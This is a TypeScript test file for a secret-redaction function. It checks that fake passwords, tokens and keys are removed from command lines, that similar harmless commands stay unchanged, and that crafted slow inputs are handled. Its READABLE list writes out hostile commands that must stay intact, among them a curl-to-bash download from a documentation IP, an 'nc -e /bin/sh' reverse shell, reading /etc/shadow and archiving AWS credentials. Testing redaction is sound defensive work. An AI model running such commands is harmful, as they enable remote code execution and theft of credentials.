import fc from "fast-check";
import { expect, test } from "vitest";
import { redact } from "#shared/domain/redact.ts";

const B64 = "wJalrXUtnFEMI/K7MDENG/bPxRfiCYzEXAMPLEKEY";
// Joined here, so that no scanner takes this file for a leak.
const join = (...parts: readonly string[]) => parts.join("");
const GITHUB = join("ghp", "_", "a1B2c3D4e5F6g7H8i9J0k1L2m3N4o5P6q7R8");
const SLACK = join("xox", "b-123456789012-1234567890123-AbCdEfGhIjKlMnOp");
const STRIPE = join("sk", "_live_", "4eC39HqLyjWDarjtT1zdp7dc");
const AKID = join("AKIA", "IOSFODNN7EXAMPLE");
const JWT = join("eyJhbGciOiJIUzI1NiJ9", ".", "eyJzdWIiOiIxMjM0In0", ".", "SflKxwRJSMeKKF2QT4");
const PEM = join("-----BEGIN RSA PRIVATE", " KEY-----\nMIIEpAIBAAKCAQEA\nabc\n-----END RSA PRIVATE KEY-----");

/** [text, the secret that must not survive, something that must stay, a twin that must stay as it is] */
const CASES: readonly (readonly [string, string, string, string])[] = [
  ["mysql -h db -u root -phunter2 app", "hunter2", "mysql -h db -u root -p", "mysql -h db -P 3306 -u root app"],
  ["mysqldump -proot123 --all-databases", "root123", "--all-databases", "mysqldump -p app_db --all-databases"],
  ["mysqladmin --password=hunter2 ping", "hunter2", "ping", "mysqladmin ping -h 127.0.0.1"],
  ["psql --password hunter2 -h db", "hunter2", "-h db", "psql -p 5432 -h db"],
  ["PGPASSWORD=hunter2 psql -h db", "hunter2", "psql -h db", "PGPASSFILE=/run/pgpass psql -h db"],
  ["MYSQL_PWD=hunter2 mysql", "hunter2", "MYSQL_PWD=", "PWD=/srv/app mysql"],
  ["env DB_PASS=hunter2 ./run", "hunter2", "./run", "env BYPASS=hunter2 ./run"],
  [
    "docker run -e POSTGRES_PASSWORD=hunter2 postgres",
    "hunter2",
    "postgres",
    "docker run -e POSTGRES_PASSWORD_FILE=/run/secrets/pg postgres",
  ],
  ["docker login -u bob -p hunter2 ghcr.io", "hunter2", "ghcr.io", "docker login -u bob --password-stdin ghcr.io"],
  ["sshpass -p hunter2 ssh root@10.0.0.1", "hunter2", "ssh root@10.0.0.1", "ssh -p 2222 root@10.0.0.1"],
  ["sshpass -phunter2 ssh root@10.0.0.1", "hunter2", "root@10.0.0.1", "mkdir -p /tmp/hunter2"],
  ["redis-cli -h cache -a hunter2 KEYS *", "hunter2", "KEYS *", "ls -a hunter2"],
  ["redis-server --requirepass hunter2", "hunter2", "redis-server", "redis-server --port 6379"],
  ["curl -u bob:hunter2 https://api.example.com/x", "hunter2", "https://api.example.com/x", "curl -o bob https://api.example.com/x"],
  ["curl --user bob:hunter2 https://api.example.com", "hunter2", "bob", "curl --user-agent bob https://api.example.com"],
  [
    "curl -H Authorization: Bearer abc123def456 https://x.test",
    "abc123def456",
    "https://x.test",
    "curl -H Accept: text/plain https://x.test",
  ],
  ["curl -H 'Authorization: Basic Ym9iOmh1bnRlcjI=' x.test", "Ym9iOmh1bnRlcjI", "x.test", "curl -H 'Authorization: Basic $CREDS' x.test"],
  ["curl -H 'Authorization: token abcdef' x.test", "abcdef", "x.test", "curl -H 'Content-Type: token' x.test"],
  ["wget --header=X-Api-Key: s3cr3tvalue x.test", "s3cr3tvalue", "x.test", "wget --header=X-Api-Version: 2 x.test"],
  ["curl -H 'X-Vault-Token: s.abcdefgh' x.test", "s.abcdefgh", "x.test", "curl -H 'X-Vault-Namespace: team' x.test"],
  ["curl -H 'PRIVATE-TOKEN: abcdefgh' x.test", "abcdefgh", "x.test", "curl -H 'Private: abcdefgh' x.test"],
  ["curl -H 'Cookie: session=abc; theme=dark' x.test", "session=abc", "x.test", "curl --cookie-jar jar x.test"],
  [
    "git clone https://bob:hunter2@git.example.com/a.git",
    "hunter2",
    "git.example.com/a.git",
    "git clone https://git.example.com:8443/a.git",
  ],
  [`git clone https://${GITHUB}@github.com/a/b`, GITHUB, "github.com/a/b", "git clone git@github.com:a/b"],
  ["git push https://0123456789abcdef0123@host.test/a", "0123456789abcdef0123", "host.test/a", "git push https://bob@host.test/a"],
  ["psql postgres://app:p@ss/word@db:5432/app", "p@ss/word", "db:5432/app", "psql postgres://app@db:5432/app"],
  ["mongosh mongodb+srv://u:hunter2@c0.mongodb.net/x", "hunter2", "c0.mongodb.net/x", "mongosh mongodb+srv://c0.mongodb.net/x"],
  ["celery -b amqp://guest:hunter2@rabbit//", "hunter2", "@rabbit//", "celery -b amqp://rabbit:5672//"],
  ["scp bob:hunter2@10.0.0.9 x", "hunter2", "@10.0.0.9", "docker pull nginx:1.25@sha256:0123456789abcdef"],
  ["Server=db;User Id=sa;Password=hunter2;Database=x", "hunter2", "Database=x", "Server=db;User Id=sa;Database=x"],
  ["Server=db;Pwd=hunter;2x;Database=x", "hunter;2x", "Database=x", "OLDPWD=/root;Database=x"],
  ["DefaultEndpointsProtocol=https;AccountName=a;AccountKey=abc+def==;X=1", "abc+def==", "AccountName=a", "AccountName=abc;X=1"],
  ["https://a.blob.core.windows.net/c?sv=2020&sig=abc%2Bdef&se=1", "abc%2Bdef", "sv=2020", "https://a.test/c?sv=2020&design=abc&se=1"],
  [
    "https://b.s3.amazonaws.com/k?X-Amz-Signature=deadbeef00&X-Amz-Expires=9",
    "deadbeef00",
    "X-Amz-Expires=9",
    "https://b.s3.amazonaws.com/k?X-Amz-Expires=9",
  ],
  ["https://x.test/cb?access_token=abcdef&user=1", "abcdef", "user=1", "https://x.test/cb?access=abcdef&user=1"],
  [`AWS_ACCESS_KEY_ID=${AKID} aws s3 ls`, "IOSFODNN7", "aws s3 ls", "AWS_REGION=eu-west-1 aws s3 ls"],
  [`AWS_SECRET_ACCESS_KEY=${B64} aws s3 ls`, B64, "aws s3 ls", "AWS_SECRET_NAME=prod/db aws s3 ls"],
  [`aws configure set aws_secret_access_key ${B64}`, B64, "aws configure set", "aws configure set region eu-west-1"],
  [
    "AWS_SESSION_TOKEN=IQoJb3Jp aws sts get-caller-identity",
    "IQoJb3Jp",
    "get-caller-identity",
    "AWS_PROFILE=IQoJb3Jp aws sts get-caller-identity",
  ],
  [`export X=1 ${GITHUB}`, GITHUB, "export X=1", "export X=1 ghp_short"],
  [`slackcat ${SLACK}`, SLACK, "slackcat", "slackcat xoxo-love"],
  ["curl https://hooks.slack.com/services/T000/B000/abcdefXYZ", "T000/B000", "hooks.slack.com", "curl https://slack.com/services/T000"],
  [`stripe ${STRIPE} charges`, STRIPE, "charges", "stripe sk_dev charges"],
  [`kubectl --token ${JWT} get pods`, JWT, "get pods", "kubectl --token-file /var/run/token get pods"],
  [`curl x.test -d ${JWT}`, "SflKxwRJSMeKKF2QT4", "x.test", "curl x.test -d eyJhbGciOi"],
  [`echo ${PEM} > /tmp/k`, "MIIEpAIBAAKCAQEA", "> /tmp/k", "grep -r 'PRIVATE KEY' /root > /tmp/k"],
  [`echo ${PEM.slice(0, 60)}`, "MIIEpAIBAAKCAQEA", "echo", "echo -----BEGIN CERTIFICATE-----"],
  ["vault login hvs.abcdefghijklmnop1234", "abcdefghijklmnop1234", "vault login", "vault login -method=oidc"],
  ["kubectl create secret generic s --from-literal=db=hunter2", "hunter2", "generic s", "kubectl create secret generic s --from-file=db"],
  ["openssl enc -aes-256-cbc -pass pass:hunter2 -in a", "hunter2", "-in a", "openssl enc -aes-256-cbc -pass file:key -in a"],
  ["ldapsearch -D cn=admin -w hunter2 -b dc=x", "hunter2", "-b dc=x", "ping -w 5 -b 10.0.0.255"],
  ["smbclient //srv/c -U bob%hunter2", "hunter2", "//srv/c", "smbclient //srv/c -U bob"],
  ["echo root:toor | chpasswd", "toor", "chpasswd", "echo root:toor | tee x"],
  ["echo hunter2 | sudo -S id", "hunter2", "sudo -S id", "echo hunter2 | sudo tee x"],
  ["htpasswd -bc /etc/p bob hunter2", "hunter2", "/etc/p bob", "htpasswd -c /etc/p bob"],
  ["net user bob hunter2 /add", "hunter2", "/add", "net user bob /delete"],
  ["zip -r -P hunter2 out.zip /etc", "hunter2", "out.zip /etc", "zip -r out.zip /etc"],
  ['{"password":"hunter2","user":"bob"}', "hunter2", '"user":"bob"', '{"pass_count":2,"user":"bob"}'],
  ['{"apiKey": "abc,def", "n": 1}', "abc,def", '"n": 1', '{"apiVersion": "abc,def", "n": 1}'],
  ["clientSecret: 'a b c' region: x", "a b c", "region: x", "clientSecretRef 'a b c' region: x"],
  ["x --api-key abc123 --verbose", "abc123", "--verbose", "x --api-keys-from env --verbose"],
  ["x -password hunter2 run", "hunter2", "run", "x -passwordless hunter2 run"],
  ["x --private-key abc123 run", "abc123", "run", "x --private-key /root/.ssh/id_rsa run"],
  ["./miner --cfg=aB3dE5fG7hI9jK1lM3nO5pQ7 go", "aB3dE5fG7hI9jK1lM3nO5pQ7", "go", "./miner --cfg=/opt/Miner/v2/Config.json go"],
  ["run key=0123456789abcdef0123456789abcdef go", "0123456789abcdef", "go", "run id=0123456789abcdef0123456789abcdef go"],
  ["SQL: ALTER USER a IDENTIFIED BY 'hunter2'", "hunter2", "ALTER USER a", "SQL: ALTER USER a ACCOUNT LOCK"],
  ["npm config set //r/:_authToken hunter2tok", "hunter2tok", "npm config set", "npm config set registry hunter2tok"],
  ["SG.aaaaaaaaaaaaaaaaaaaa.bbbbbbbbbbbbbbbbbbbbbb", "bbbbbbbbbb", "SG.", "SG.a.b"],
];

/** What an attack looks like must stay readable in full. */
const READABLE: readonly string[] = [
  "cat /etc/shadow /etc/passwd",
  "sh -c curl -s http://203.0.113.9:8080/x.sh|bash",
  "find / -name id_rsa -o -name *.pem",
  "grep -ri password /var/www",
  "nc -e /bin/sh 203.0.113.9 4444",
  "echo Y3VybCBodHRwOi8vMjAzLjAuMTEzLjkveC5zaA== | base64 -d | sh",
  "aws secretsmanager get-secret-value --secret-id arn:aws:secretsmanager:eu-west-1:123456789012:secret:prod/db-AbCdEf",
  "tar czf /tmp/x.tgz /root/.aws/credentials",
  "kubectl get secret -n kube-system",
  "max_tokens=100 tokenizer=bert author=bob",
  join("PASSWORD=$DB_PASSWORD ./run --token=$", "{TOKEN}"),
  "password=<NA> token=null secret=***",
  "runc --id 2cde3dcbeff2e24bd99d4f46fb83e22a844369e3aabb33afc052f1bd44a47a3a",
  "docker run app@sha256:2cde3dcbeff2e24bd99d4f46fb83e22a844369e3aabb33afc052f1bd44a47a3a",
  "pod=0f8fad5b-d9cb-469f-a165-70867728950e",
  "127.0.0.1:46130->127.0.0.1:3306",
  "nmap -p 1-65535 10.0.0.0/8",
  "linkpath=/tmp/made-by-AttackTool-CreateSymlinkOverSensitiveFiles-1654518104/etc_link",
  "bearer of bad news, basic training",
];

test.each(CASES)("%s", (text, secret, stays) => {
  const result = redact(text);
  expect(result).not.toContain(secret);
  expect(result).toContain(stays);
});

test.each(CASES.map(([, , , twin]) => twin))("stays readable: %s", (twin) => expect(redact(twin)).toBe(twin));

test.each(READABLE)("stays readable: %s", (text) => expect(redact(text)).toBe(text));

test("there are at least fifty kinds of secrets, each with a twin", () => {
  expect(CASES.length).toBeGreaterThanOrEqual(50);
  expect(new Set(CASES.map(([text]) => text)).size).toBe(CASES.length);
});

test("redacting twice changes nothing more", () => {
  for (const [text] of CASES) expect(redact(redact(text))).toBe(redact(text));
});

test("a secret is found wherever it stands in any text of words", () => {
  const words = fc.array(fc.stringMatching(/^[a-z0-9./]{1,12}$/), { maxLength: 30 });
  fc.assert(
    fc.property(words, words, fc.stringMatching(/^[A-Za-z0-9+/!#%^*]{6,40}$/), (before, after, secret) => {
      const result = redact([...before, `--db-password=Q${secret}Q`, ...after].join(" "));
      expect(result).not.toContain(`Q${secret}Q`);
      for (const word of after) expect(result).toContain(word);
    }),
  );
});

test("texts made to be slow are read to their end", () => {
  const n = 200_000;
  for (const piece of [
    "://a:",
    "password=",
    "a:b@",
    "-----BEGIN PRIVATE KEY-----",
    "mysql ",
    "Authorization: ",
    "eyJaaaaa.",
    "'",
    "--x",
    "a=",
    "cookie: ",
  ]) {
    const hostile = piece.repeat(Math.ceil(n / piece.length));
    expect(redact(hostile).length).toBeLessThan(80_000);
  }
});

test("what is cut off at the reading limit is not half a secret", () => {
  const text = `${"x ".repeat(4_090)}password=hunter2secret`;
  expect(redact(text)).not.toContain("hunter2");
  expect(redact(text)).not.toContain("password=h");
});

test("a long text without a space is cut, not swallowed; a secret across the cut is still one", () => {
  const blob = "QUJD".repeat(4_000);
  expect(redact(`echo ${blob}`)).toMatch(/^echo (QUJD){1000}/);
  const result = redact(`echo token=${blob}`);
  expect(result).toBe("echo token=[redacted] […]");
  expect(redact(`${"x".repeat(7_900)} sshpass -p${"s3cret".repeat(300)}`, 8_000)).not.toContain("s3cret");
});
